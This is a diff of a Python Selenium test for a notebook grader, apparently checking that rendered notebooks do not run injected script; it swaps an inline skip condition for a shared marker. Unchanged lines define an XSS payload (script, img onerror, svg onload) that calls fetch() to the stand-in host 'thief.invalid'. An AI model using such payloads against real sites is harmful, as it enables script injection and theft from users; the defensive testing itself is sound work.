@@ -16,19 +16,15 @@ from selenium.webdriver.common.by import By
 
 from exercises import load_catalogue
 from tests.grader.nbgrader.browser import (
-    CHROMEDRIVER,
-    CHROMIUM,
     TOKEN,
     Chromium,
     NotebookPage,
     jupyter,
+    needs_chromium,
 )
 from tests.grader.nbgrader.course import LEFT_OUT, Folder, cell, code, filled, markdown
 
-pytestmark = pytest.mark.skipif(
-    CHROMIUM is None or CHROMEDRIVER is None,
-    reason="there is no chromium, or no chromedriver for it: apt install chromium-driver",
-)
+pytestmark = needs_chromium
 THIEF = "thief.invalid"
 STEAL = f"document.title='stolen';fetch('http://{THIEF}/')"
 HOSTILE = f'<script>{STEAL}</script><img src=x onerror="{STEAL}"><svg onload="{STEAL}"></svg>'
